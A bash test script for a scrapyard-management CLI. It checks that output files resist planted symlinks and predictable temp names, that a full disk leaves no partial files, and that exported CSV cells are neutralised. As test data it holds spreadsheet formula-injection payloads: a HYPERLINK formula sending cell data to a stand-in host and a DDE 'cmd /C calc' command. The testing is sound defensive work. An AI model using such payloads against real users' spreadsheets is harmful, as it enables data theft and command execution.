#!/bin/bash
# Files the program writes: never through a link planted in advance, never
# half written, never a formula in a CSV (docs/reliability.md, "Files").
source "$(dirname "$0")/../lib.sh"
source "$(dirname "$0")/common.bash"

DB=$WORK/yard.db
export SCRAPYARD_DB=$DB
"$SY" init --name "Test Yard" --license L-1 --address "1 Road" >/dev/null
stock=$(checkin 1 --weight 1000)
v1=$(sql "SELECT id FROM vehicles")
sql "INSERT INTO parts(part_no, vehicle_id, kind, grade, dest, material, weight_kg, created_by, created_at, updated_at)
     VALUES ('P1', $v1, 'door', 'A', 'reuse', 'steel', 50, 'c', '2026-11-05', 'x')"
mkdir -p "$WORK/other"
victim=$WORK/other/victim.txt
echo "another user's file" >"$victim"
intact() { test "$(cat "$victim")" = "another user's file"; }

# --- an output named by the clerk is replaced, never written through a link
out_dir=$WORK/out
mkdir -p "$out_dir"
for fmt in png text zpl tspl; do
	ln -sfn "$victim" "$out_dir/label.$fmt"
	run "$SY" label print vehicle "$stock" --format "$fmt" --output "$out_dir/label.$fmt"
	expect_rc "label --format $fmt onto a link" 0
	check "label --format $fmt: the linked file is untouched" intact
	check "label --format $fmt: a file of its own in place of the link" test -f "$out_dir/label.$fmt" -a ! -L "$out_dir/label.$fmt"
done
ln -sfn "$victim" "$out_dir/mb.csv"
run "$SY" report mass-balance --csv "$out_dir/mb.csv"
expect_rc "report --csv onto a link" 0
check "report --csv: the linked file is untouched" intact
# The temporary name is random: a link planted at the old PATH.tmp-PID
# (the PID is known when the program is started with exec) catches nothing.
run bash -c 'ln -s "$1" "$2.tmp-$$"; exec "$3" report mass-balance --csv "$2"' _ "$victim" "$out_dir/r.csv" "$SY"
expect_rc "report --csv with a link at PATH.tmp-PID" 0
check "report --csv: a link at the predictable temporary name is not used" intact
check "report --csv: written" grep -q "^Total" "$out_dir/r.csv"

# --- certificates/ beside the database must be the yard's own folder
stock2=$(checkin 2)
depollute_sql
mkdir -p "$WORK/elsewhere"
ln -s "$WORK/elsewhere" "$WORK/certificates"
run "$SY" cert issue "$stock"
expect_rc "certificates/ is a link: refused" 2
check_contains "says it is a link" "$err" "link"
check_contains "the certificate is issued all the same" "$err" "is issued"
check "nothing written into the linked folder" test -z "$(ls -A "$WORK/elsewhere")"
rm "$WORK/certificates"
if [ "$(id -u)" -eq 0 ]; then
	mkdir "$WORK/certificates"
	chown 65534 "$WORK/certificates"
	run "$SY" cert issue "$stock2"
	expect_rc "certificates/ owned by another user: refused" 2
	check_contains "says whose it is" "$err" "another user"
	check "nothing written into it" test -z "$(ls -A "$WORK/certificates")"
	rm -rf "$WORK/certificates"
else
	echo "ok # skip certificates/ owned by another user: needs root to make one"
fi

# --- a full disk leaves no empty or partial label file
if unshare -rm true 2>/dev/null; then
	mkdir -p "$WORK/small"
	for fmt in png text zpl tspl; do
		run unshare -rm sh -c "mount -t tmpfs -o size=12k tmpfs '$WORK/small' && head -c 8192 /dev/zero >'$WORK/small/fill';
			head -c 4096 /dev/zero >>'$WORK/small/fill' 2>/dev/null;
			'$SY' label print vehicle '$stock' --format $fmt --output '$WORK/small/label.$fmt'; s=\$?; ls -A '$WORK/small'; exit \$s"
		check "full disk, --format $fmt: fails (exit 2)" test "$rc" = 2
		check "full disk, --format $fmt: no label file left" bash -c '! grep -q label <<<"$1"' _ "$out"
	done
else
	echo "ok # skip full disk: mount namespaces not available"
fi

# --- export: its temporary folder is its own (mkdtemp), never a planted one
root_only=$WORK/root-only
mkdir -p "$root_only"
echo keep >"$root_only/secret"
run bash -c 'ln -s "$1" "$2/scrapyard-export.tmp-$$"; exec "$3" export --out "$2"' _ "$root_only" "$out_dir" "$SY"
expect_rc "export with a link at the old temporary name" 0
check "the linked folder is not emptied" test -f "$root_only/secret"
check "nothing written into the linked folder" test "$(ls -A "$root_only")" = secret
check "the planted link is left alone" test -L "$out_dir/scrapyard-export.tmp-$(ls "$out_dir" | sed -n 's/^scrapyard-export.tmp-//p' | head -1)"
check "no temporary folder of its own left" test -z "$(ls -A "$out_dir" | grep '^\.scrapyard-export')"

# Two yards exporting into one folder in the same second: both kept.
export SCRAPYARD_NOW="2026-11-20 10:00:00"
for y in a b; do
	SCRAPYARD_DB=$WORK/$y.db "$SY" init --name "Yard $y" --license "L-$y" --address Road >/dev/null
	SCRAPYARD_DB=$WORK/$y.db checkin 5 >/dev/null
done
mkdir -p "$WORK/stick"
run env SCRAPYARD_DB="$WORK/a.db" "$SY" export --out "$WORK/stick"
expect_rc "first yard's export" 0
run env SCRAPYARD_DB="$WORK/b.db" "$SY" export --out "$WORK/stick" --json
expect_rc "second yard's export in the same second" 0
check "two folders" test "$(ls "$WORK/stick" | grep -c scrapyard-export-0001-20261120-100000)" = 2
check "the second recorded under its own name" test -d "$(printf '%s' "$out" | jq -r .folder)"
unset SCRAPYARD_NOW

# --- CSV: a cell that a spreadsheet would run is neutralised
sql "UPDATE vehicles SET owner_name = '=HYPERLINK(\"http://x.example/\"&A1,\"click\")', brand_model = '+cmd|'' /C calc''!A0',
     colour = '@SUM(1+1)', notes = '-2+3' WHERE id = $v1"
run "$SY" export --out "$WORK/csvtest"
dir=$(ls -d "$WORK"/csvtest/scrapyard-export-*/)
check "export: a formula in a name starts with an apostrophe" grep -q "\"'=HYPERLINK" "$dir/vehicles.csv"
check "export: a + formula too" grep -q "\"'+cmd|" "$dir/vehicles.csv"
check "export: no cell starts with = + or @" bash -c '! grep -qE "(^|,)[=+@]" "$1"' _ "$dir/vehicles.csv"
check "export: the JSON keeps the exact value" test "$(jq -r '.[0].owner_name' "$dir/vehicles.json")" = '=HYPERLINK("http://x.example/"&A1,"click")'
"$SY" report carbon >/dev/null 2>&1 # loads the factors on first use
sql "UPDATE emission_factors SET source = '=HYPERLINK(\"http://x.example\")' WHERE route = 'reuse'"
run "$SY" report carbon --csv "$WORK/carbon.csv"
expect_rc "report carbon --csv" 0
check "report: the formula is neutralised" grep -q "\"'=HYPERLINK" "$WORK/carbon.csv"
check "report: no cell starts with = + or @" bash -c '! grep -qE "(^|,)[=+@]" "$1"' _ "$WORK/carbon.csv"
check "report: negative numbers stay numbers" bash -c '! grep -q "'"'"'-[0-9]" "$1"' _ "$WORK/carbon.csv"

finish
